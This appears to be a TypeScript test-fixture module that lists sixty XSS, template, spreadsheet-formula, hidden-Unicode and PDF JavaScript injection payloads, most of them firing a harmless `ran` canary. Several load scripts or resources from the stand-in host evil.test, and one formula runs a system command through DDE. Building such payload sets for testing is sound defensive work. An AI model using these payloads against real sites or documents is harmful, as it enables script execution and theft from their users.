/**
 * Texts that somebody could type so that something happens in a colleague's browser, spreadsheet or PDF reader. `§` is
 * the payload's own number. What runs calls `ran`, or asks for an address: `/ran`, or a host that is none of ours.
 */
export interface Payload {
  readonly text: string;
  /** False for what only another program than a browser would run, or a page that takes texts for templates. */
  readonly isLive: boolean;
}

/** Payloads that run in a page that treats typed text as its own: in its text, its attributes, its links or its scripts. */
const live: readonly string[] = [
  // Scripts.
  '<script>ran(§)</script>',
  '<ScRiPt src=data:,ran(§)></sCrIpT>',
  '<script src=//evil.test/§></script>',
  "<script>fetch('/ran?§')</script>",
  '<script type=module>ran(§)</script>',
  '</title></textarea><script>ran(§)</script>',
  // An address as fields of addresses take it.
  'https://evil.test/§"><img/src="x"/onerror=ran(§)>',
  // Elements with handlers.
  '<img src=x onerror=ran(§)>',
  '<IMG """><IMG SRC=x OnErRoR="ran(§)">',
  '<svg onload=ran(§)>',
  '<svg/onload=ran(§)//',
  '<body onload=ran(§)>',
  '<details open ontoggle=ran(§)>x',
  '<video><source onerror=ran(§)></video>',
  '<style onload=ran(§)></style>',
  '<object data=x onerror=ran(§)></object>',
  '<a href=# onclick=ran(§)>x</a>',
  '<svg><animate onbegin=ran(§) attributeName=x dur=1s>',
  // Frames, forms and what the page is made of.
  '<iframe srcdoc="<script>ran(§)</script>"></iframe>',
  '<iframe src=javascript:ran(§)></iframe>',
  '<iframe src="data:text/html,<script>ran(§)</script>">',
  '<embed src=//evil.test/§>',
  '<form action=javascript:ran(§)><button>x',
  '<meta http-equiv=refresh content="0;url=//evil.test/§">',
  '<base href=//evil.test/§/>',
  '<link rel=stylesheet href=//evil.test/§>',
  "<style>@import '//evil.test/§';</style>",
  '<p style=background:url(//evil.test/§)>x</p>',
  // Out of an attribute, a comment, a style.
  '" autofocus onfocus=ran(§) x="',
  "' autofocus onfocus=ran(§) x='",
  '"><img src=x onerror=ran(§)>',
  "'/><svg onload=ran(§)><x '",
  '--></style><svg onload=ran(§)>',
  // Links.
  'javascript:ran(§)',
  'JaVa\tScRiPt:ran(§)//',
  // Out of a script's own text.
  '</script><script>ran(§)</script>',
  '";ran(§);//',
  "'-ran(§)-'",
  '${ran(§)}',
  // Markup that changes its meaning while it is read.
  '<noscript><p title="</noscript><img src=x onerror=ran(§)>">',
  '<svg><style><img src=x onerror=ran(§)></style></svg>',
  '<xmp><p title="</xmp><svg onload=ran(§)>">',
  '<math><mtext><img src=x onerror=ran(§)></mtext></math>',
];

/** Payloads that other programs run, or a page that decodes once more than it should. */
const still: readonly string[] = [
  "{{constructor.constructor('ran(§)')()}}",
  '#{ran(§)} <%= ran(§) %> {count}{thing}',
  '&lt;img src=x onerror=ran(§)&gt;',
  '%3Csvg%20onload=ran(§)%3E',
  // Formulas of spreadsheets.
  "=cmd|' /C calc'!A§",
  '+ran(§)',
  '-2+3+ran(§)',
  '@SUM(1+§)',
  '\t=1+§',
  '\r=1+§',
  '=HYPERLINK("http://evil.test/§","x")',
  // Signs that are not seen.
  '\u202E>)§(nar=daolno gvs<\u202C',
  '\u200B<\u200Bimg src=x onerror=ran(§)>\u2066',
  '\u0001\u001Bjavascript:ran(§)',
  // Markdown, and the language of PDF.
  '[x](javascript:ran(§)) ![x](//evil.test/§)',
  ') >> /OpenAction << /S /JavaScript /JS (ran(§)) >> (',
  '\\) Tj ET /A << /URI (javascript:ran(§)) >>',
];

/** The sixty, each with its number from 1. */
export const handWritten: readonly Payload[] = [
  ...live.map((text) => ({ text, isLive: true })),
  ...still.map((text) => ({ text, isLive: false })),
].map(({ text, isLive }, index) => ({ text: text.replaceAll('§', String(index + 1)), isLive }));
